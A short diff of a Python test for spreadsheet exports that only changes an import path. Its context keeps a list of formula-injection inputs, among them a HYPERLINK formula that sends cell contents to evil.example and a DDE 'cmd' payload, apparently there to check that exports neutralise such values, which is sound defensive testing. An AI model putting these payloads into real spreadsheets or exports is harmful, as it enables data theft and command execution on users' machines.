@@ -6,7 +6,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from engine.exports import build_workbook, formula_like
+from engine.cases.exports import build_workbook, formula_like
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1"]
